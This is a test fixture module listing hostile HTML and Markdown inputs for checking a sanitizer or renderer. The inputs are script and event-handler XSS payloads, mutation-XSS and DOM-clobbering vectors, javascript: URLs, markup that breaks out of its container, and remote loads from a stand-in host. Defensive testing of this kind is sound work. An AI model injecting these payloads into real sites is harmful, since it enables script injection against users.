/** Texts that try to become a part of the page around them. Each would set `window.owned`, open a dialog or ask another machine. */

const ELSEWHERE = 'http://203.0.113.9'
const RUN = 'window.owned=1'

export const HOSTILE_TEXTS = [
  // Scripts and handlers.
  `<script>${RUN}</script>`,
  `<ScRiPt src="${ELSEWHERE}/a.js"></sCrIpT>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="x" oNeRrOr=alert(1)//`,
  `"><svg onload=${RUN}>`,
  `' autofocus onfocus='${RUN}`,
  `" onmouseover="${RUN}" style="position:fixed;inset:0" x="`,
  `<body onload=${RUN}><input autofocus onfocus=${RUN}><details open ontoggle=${RUN}>`,
  `<video src=x onerror=${RUN}></video><audio src=x onerror=${RUN}></audio>`,
  // Requests elsewhere.
  `<img src="${ELSEWHERE}/pixel.gif" srcset="${ELSEWHERE}/2.gif 2x">`,
  `![a picture](${ELSEWHERE}/pixel.png)`,
  `<picture><source srcset="${ELSEWHERE}/a.png"><img alt=""></picture>`,
  `<link rel=stylesheet href="${ELSEWHERE}/a.css"><style>@import "${ELSEWHERE}/b.css"</style>`,
  `<iframe src="${ELSEWHERE}/"></iframe><object data="${ELSEWHERE}/"></object><embed src="${ELSEWHERE}/">`,
  `<base href="${ELSEWHERE}/"><meta http-equiv="refresh" content="0;url=${ELSEWHERE}/">`,
  `<div style="background:url(${ELSEWHERE}/bg.png)">x</div>`,
  `<svg><image href="${ELSEWHERE}/i.svg"/><use href="${ELSEWHERE}/u.svg#x"/></svg>`,
  `<table background="${ELSEWHERE}/t.png"><tr><td background="${ELSEWHERE}/c.png">x</table>`,
  // Addresses that run.
  `[a link](javascript:${RUN})`,
  `[a link](JaVa&#x09;ScRiPt:${RUN}) [another](data:text/html,<script>${RUN}</script>)`,
  `<a href="java\tscript:${RUN}">x</a><a href=" javascript:${RUN}">y</a><a href="vbscript:${RUN}">z</a>`,
  `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}">Press</button></form>`,
  `<math href="javascript:${RUN}"><a xlink:href="javascript:${RUN}">x</a></math>`,
  // Out of the card.
  '</div></article></li></ol></main></body></html><h1>Outside</h1>',
  '<!-- never closed',
  '<![CDATA[ never closed',
  '</textarea></title></style></script></pre></details><h1>Outside</h1>',
  '<table><tr><td><table></div></article><li><p>',
  '<b><i><u><s><a href="/"><details><summary><ul><li>',
  '<plaintext>',
  '<template><div>',
  '<select><option>',
  '```"><script>window.owned=1</script>\nx\n```',
  `x[^1]\n\n[^1]: <img src=x onerror="${RUN}"> <script>${RUN}</script>`,
  // Names that scripts of a page rely on.
  '<form id="documentElement" name="body"><input name="querySelectorAll" id="cookie"></form>',
  '<a id="localStorage" name="defaultView"></a><img name="getElementById" id="content">',
  '<a id="main" class="top skip" name="location">x</a>',
  // Mutations.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<details/open/ontoggle="${RUN}">`,
  // Letters.
  '\u202egnp.exe\u202c \u2066x\u2069 \u200b\ufeff\u0000\u0008',
  `${'>'.repeat(3000)} deep`,
  'w'.repeat(20_000),
  '{{constructor.constructor("window.owned=1")()}} #{window.owned=1}',
]
